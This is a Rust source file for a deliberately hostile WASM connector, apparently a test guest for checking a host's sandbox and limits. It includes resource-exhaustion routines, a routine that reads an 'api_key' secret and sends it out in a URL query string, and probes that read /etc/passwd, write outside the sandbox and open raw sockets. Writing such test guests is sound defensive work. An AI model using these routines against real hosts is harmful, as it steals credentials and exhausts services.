//! A data-sync component that misbehaves on request, for sandbox, limit and policy tests.
//!
//! `read-batch` dispatches on `req.entity` (the behaviour) and passes `req.cursor` to it as its
//! argument. Behaviours that return produce one record whose `id` is the behaviour and whose
//! `data` is a JSON object describing what happened; it always has `"ok": bool`, and failures
//! of a host call carry `"error"` (the WIT variant name, e.g. `destination-not-allowed`) and
//! `"message"`. See `tests/` for the shape each behaviour reports.

use std::hint::black_box;

use patchbay_sdk::data_sync::{Batch, DataSync, Entity, ReadRequest, SourceRecord, WriteRequest, WriteResult};
use patchbay_sdk::raw::credentials::{self, CredentialError};
use patchbay_sdk::raw::events::{self, Event, EventError};
use patchbay_sdk::raw::http::{self, HttpError, Method, Request};
use patchbay_sdk::raw::log::{self, Level};
use patchbay_sdk::raw::state::{self, StateError};
use patchbay_sdk::{ConnectorError, CredentialCheck, HealthReport, Lifecycle};
use serde::Deserialize;
use serde_json::{Value, json};

struct Hostile;

impl Lifecycle for Hostile {
    fn health_check() -> Result<HealthReport, ConnectorError> {
        Ok(HealthReport::healthy())
    }

    fn validate_credentials() -> Result<CredentialCheck, ConnectorError> {
        Ok(CredentialCheck::valid())
    }
}

impl DataSync for Hostile {
    fn list_entities() -> Result<Vec<Entity>, ConnectorError> {
        Ok(vec![])
    }

    fn read_batch(req: ReadRequest) -> Result<Batch, ConnectorError> {
        let arg = req.cursor.unwrap_or_default();
        let data = match req.entity.as_str() {
            "infinite-loop" => infinite_loop(),
            "memory-bomb" => memory_bomb(),
            "deep-recursion" => json!({ "ok": true, "depth": recurse(black_box(0)) }),
            "log-flood" => log_flood(),
            "huge-return" => return huge_return(&arg),
            "http" => http_request(&arg),
            "read-secret" => read_secret(&arg),
            "exfiltrate-url" => exfiltrate_url(&arg),
            "placeholder-in-url" => {
                let url = format!("{arg}?k={{{{secret:api_key}}}}");
                http_outcome(http::send(&get(url)))
            }
            "state" => state_op(&arg),
            "emit" => emit(&arg),
            "stdout" => {
                println!("{arg}");
                eprintln!("stderr: {arg}");
                json!({ "ok": true })
            }
            "config" => json!({ "ok": true, "config": credentials::config_all() }),
            "environment" => environment(&arg),
            "panic" => panic!("guest panicked: {arg}"),
            "ok" => json!({ "ok": true }),
            other => {
                return Err(ConnectorError::permanent("unknown_behaviour", format!("no behaviour named `{other}`")));
            }
        };
        Ok(single(&req.entity, &data))
    }

    fn write_batch(_req: WriteRequest) -> Result<Vec<WriteResult>, ConnectorError> {
        Ok(vec![])
    }
}

patchbay_sdk::export_data_sync!(Hostile);

fn single(id: &str, data: &Value) -> Batch {
    batch(vec![SourceRecord { id: id.to_owned(), data: data.to_string(), deleted: false }])
}

fn batch(records: Vec<SourceRecord>) -> Batch {
    Batch { records, errors: vec![], next_cursor: None, done: true, total: None }
}

/// Spins forever; only the host's deadline stops it.
fn infinite_loop() -> ! {
    let mut n: u64 = 0;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

/// Allocates and touches 1 MiB blocks, keeping them all, until the memory cap traps.
fn memory_bomb() -> ! {
    let mut blocks: Vec<Vec<u8>> = Vec::new();
    loop {
        let block = vec![0xA5u8; 1 << 20];
        blocks.push(black_box(block));
        black_box(&blocks);
    }
}

/// Unbounded, non-tail recursion that ends in wasmtime's stack-overflow trap.
///
/// Frames hold only scalars, so they live on the wasm value stack and never touch Rust's shadow
/// stack in linear memory (overflowing that would be an out-of-bounds access instead). The result
/// is combined after the call with two operations, which keeps LLVM from turning the recursion
/// into a loop; the guard makes the function well defined for the optimizer, and
/// `black_box` on the first argument stops constant evaluation.
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    if depth == u64::MAX {
        return 0;
    }
    recurse(depth + 1).wrapping_mul(3).wrapping_add(depth)
}

/// One million ~100-byte log lines.
fn log_flood() -> Value {
    const COUNT: u32 = 1_000_000;
    let padding = "x".repeat(80);
    let no_fields = Vec::new();
    for i in 0..COUNT {
        let message = format!("log-flood {i:07} {padding}");
        log::log(Level::Info, &message, &no_fields);
    }
    json!({ "ok": true, "count": COUNT })
}

/// Records whose `data` totals `arg` bytes (default 512 MiB), in JSON strings of up to 1 MiB.
fn huge_return(arg: &str) -> Result<Batch, ConnectorError> {
    const DEFAULT: u64 = 512 << 20;
    const CHUNK: u64 = 1 << 20;
    let total = if arg.trim().is_empty() {
        DEFAULT
    } else {
        arg.trim().parse::<u64>().map_err(|e| ConnectorError::invalid_input(format!("bad byte count: {e}")))?
    };
    let mut records = Vec::new();
    let mut remaining = total;
    while remaining > 0 {
        let len = remaining.min(CHUNK);
        let len_usize = usize::try_from(len).map_err(|_| ConnectorError::invalid_input("byte count too large"))?;
        // `"xx…x"` is valid JSON of exactly `len` bytes; a lone digit covers len == 1.
        let data = if len_usize >= 2 { format!("\"{}\"", "x".repeat(len_usize - 2)) } else { "0".to_owned() };
        records.push(SourceRecord { id: format!("huge-return/{}", records.len()), data, deleted: false });
        remaining -= len;
    }
    Ok(batch(records))
}

/// The `http` behaviour's argument.
#[derive(Deserialize)]
struct HttpArg {
    url: String,
    #[serde(default)]
    method: Option<String>,
    #[serde(default)]
    headers: Vec<(String, String)>,
    #[serde(default)]
    body: Option<String>,
    #[serde(default)]
    follow_redirects: bool,
    #[serde(default)]
    timeout_ms: Option<u32>,
    /// Send the same request this many times (for budget tests); the last outcome is reported
    /// with `"sent"`, the number of requests that got a response.
    #[serde(default)]
    repeat: Option<u32>,
}

fn http_request(arg: &str) -> Value {
    let arg: HttpArg = match serde_json::from_str(arg) {
        Ok(arg) => arg,
        Err(e) => return bad_argument(e),
    };
    let method = match arg.method.as_deref().unwrap_or("GET").to_ascii_uppercase().as_str() {
        "GET" => Method::Get,
        "HEAD" => Method::Head,
        "POST" => Method::Post,
        "PUT" => Method::Put,
        "PATCH" => Method::Patch,
        "DELETE" => Method::Delete,
        "OPTIONS" => Method::Options,
        other => return bad_argument(format!("unknown method {other}")),
    };
    let request = Request {
        method,
        url: arg.url,
        headers: arg.headers,
        body: arg.body.map(String::into_bytes),
        timeout_ms: arg.timeout_ms,
        follow_redirects: arg.follow_redirects,
    };
    let repeat = arg.repeat.unwrap_or(1).max(1);
    let mut sent = 0u32;
    let outcome = loop {
        let outcome = http::send(&request);
        if outcome.is_ok() {
            sent += 1;
        }
        if outcome.is_err() || sent == repeat {
            break outcome;
        }
    };
    let mut report = http_outcome(outcome);
    report["sent"] = json!(sent);
    report
}

/// Reads secret `api_key` and smuggles it out in a query string.
fn exfiltrate_url(base: &str) -> Value {
    match credentials::get_secret("api_key") {
        Ok(value) => http_outcome(http::send(&get(format!("{base}?k={value}")))),
        Err(e) => {
            let mut report = credential_error(e);
            report["stage"] = json!("get-secret");
            report
        }
    }
}

fn get(url: String) -> Request {
    Request { method: Method::Get, url, headers: vec![], body: None, timeout_ms: None, follow_redirects: false }
}

fn http_outcome(outcome: Result<http::Response, HttpError>) -> Value {
    match outcome {
        Ok(resp) => json!({
            "ok": true,
            "status": resp.status,
            "headers": resp.headers,
            "body": String::from_utf8_lossy(&resp.body),
        }),
        Err(e) => {
            let (error, message) = match e {
                HttpError::DestinationNotAllowed(m) => ("destination-not-allowed", m),
                HttpError::AddressBlocked(m) => ("address-blocked", m),
                HttpError::InvalidRequest(m) => ("invalid-request", m),
                HttpError::Timeout => ("timeout", String::new()),
                HttpError::ResponseTooLarge(cap) => ("response-too-large", cap.to_string()),
                HttpError::ConnectionFailed(m) => ("connection-failed", m),
                HttpError::TooManyRequests(budget) => ("too-many-requests", budget.to_string()),
            };
            failure(error, &message)
        }
    }
}

fn read_secret(name: &str) -> Value {
    let has_secret = credentials::has_secret(name);
    let mut report = match credentials::get_secret(name) {
        Ok(value) => json!({ "ok": true, "value": value }),
        Err(e) => credential_error(e),
    };
    report["has_secret"] = json!(has_secret);
    report
}

fn credential_error(e: CredentialError) -> Value {
    match e {
        CredentialError::NotFound(m) => failure("not-found", &m),
        CredentialError::Invalid(m) => failure("invalid", &m),
    }
}

/// The `state` behaviour's argument.
#[derive(Deserialize)]
struct StateArg {
    op: String,
    #[serde(default)]
    key: String,
    #[serde(default)]
    value: String,
}

fn state_op(arg: &str) -> Value {
    let arg: StateArg = match serde_json::from_str(arg) {
        Ok(arg) => arg,
        Err(e) => return bad_argument(e),
    };
    let outcome = match arg.op.as_str() {
        "set" => state::set(&arg.key, &arg.value).map(|()| json!({ "ok": true })),
        "get" => state::get(&arg.key).map(|value| json!({ "ok": true, "value": value })),
        "delete" => state::delete(&arg.key).map(|existed| json!({ "ok": true, "existed": existed })),
        "list" => state::list_keys(&arg.key).map(|keys| json!({ "ok": true, "keys": keys })),
        other => return bad_argument(format!("unknown op {other}")),
    };
    outcome.unwrap_or_else(|e| match e {
        StateError::TooLarge(m) => failure("too-large", &m),
        StateError::InvalidKey(m) => failure("invalid-key", &m),
        StateError::Unavailable(m) => failure("unavailable", &m),
    })
}

/// The `emit` behaviour's argument.
#[derive(Deserialize)]
struct EmitArg {
    event_type: String,
    #[serde(default)]
    subject: Option<String>,
    /// A string is sent as is (so invalid JSON can be tested); anything else is serialized.
    #[serde(default)]
    payload: Value,
    #[serde(default)]
    idempotency_key: Option<String>,
    /// Emit this many times (for budget tests).
    #[serde(default)]
    repeat: Option<u32>,
}

fn emit(arg: &str) -> Value {
    let arg: EmitArg = match serde_json::from_str(arg) {
        Ok(arg) => arg,
        Err(e) => return bad_argument(e),
    };
    let payload = match arg.payload {
        Value::String(s) => s,
        other => other.to_string(),
    };
    let event =
        Event { event_type: arg.event_type, subject: arg.subject, payload, idempotency_key: arg.idempotency_key };
    let mut ids = Vec::new();
    for _ in 0..arg.repeat.unwrap_or(1).max(1) {
        match events::emit(&event) {
            Ok(id) => ids.push(id),
            Err(e) => {
                let mut report = match e {
                    EventError::Invalid(m) => failure("invalid", &m),
                    EventError::TooMany(budget) => failure("too-many", &budget.to_string()),
                };
                report["ids"] = json!(ids);
                return report;
            }
        }
    }
    json!({ "ok": true, "id": ids.last(), "ids": ids })
}

fn failure(error: &str, message: &str) -> Value {
    json!({ "ok": false, "error": error, "message": message })
}

fn bad_argument(reason: impl std::fmt::Display) -> Value {
    failure("bad-argument", &reason.to_string())
}

/// What the sandbox's WASI exposes: environment, arguments, stdin, the filesystem, sockets
/// (`addr` is a `host:port` to try to reach directly) and the clock.
fn environment(addr: &str) -> Value {
    use std::io::Read;
    let mut stdin = String::new();
    let stdin_read = std::io::stdin().read_to_string(&mut stdin);
    let fs = |path: &str| match std::fs::read(path) {
        Ok(bytes) => json!({ "ok": true, "bytes": bytes.len() }),
        Err(e) => json!({ "ok": false, "error": e.to_string() }),
    };
    let listing = match std::fs::read_dir("/") {
        Ok(entries) => json!({ "ok": true, "entries": entries.count() }),
        Err(e) => json!({ "ok": false, "error": e.to_string() }),
    };
    let write = match std::fs::write("/tmp/patchbay-escape", b"x") {
        Ok(()) => json!({ "ok": true }),
        Err(e) => json!({ "ok": false, "error": e.to_string() }),
    };
    let outcome = |r: std::io::Result<()>| match r {
        Ok(()) => json!({ "ok": true }),
        Err(e) => json!({ "ok": false, "error": e.to_string() }),
    };
    let tcp = outcome(std::net::TcpStream::connect(addr).map(|_| ()));
    let udp = outcome(std::net::UdpSocket::bind("0.0.0.0:0").map(|_| ()));
    let dns = outcome(std::net::ToSocketAddrs::to_socket_addrs("localhost:80").map(|_| ()));
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
    json!({
        "ok": true,
        "env": std::env::vars().collect::<Vec<_>>(),
        "args": std::env::args().collect::<Vec<_>>(),
        "stdin": { "read_ok": stdin_read.is_ok(), "bytes": stdin.len() },
        "read_etc_passwd": fs("/etc/passwd"),
        "read_relative": fs("Cargo.toml"),
        "list_root": listing,
        "write_tmp": write,
        "tcp_connect": tcp,
        "udp_bind": udp,
        "dns_lookup": dns,
        "clock_secs": now,
    })
}
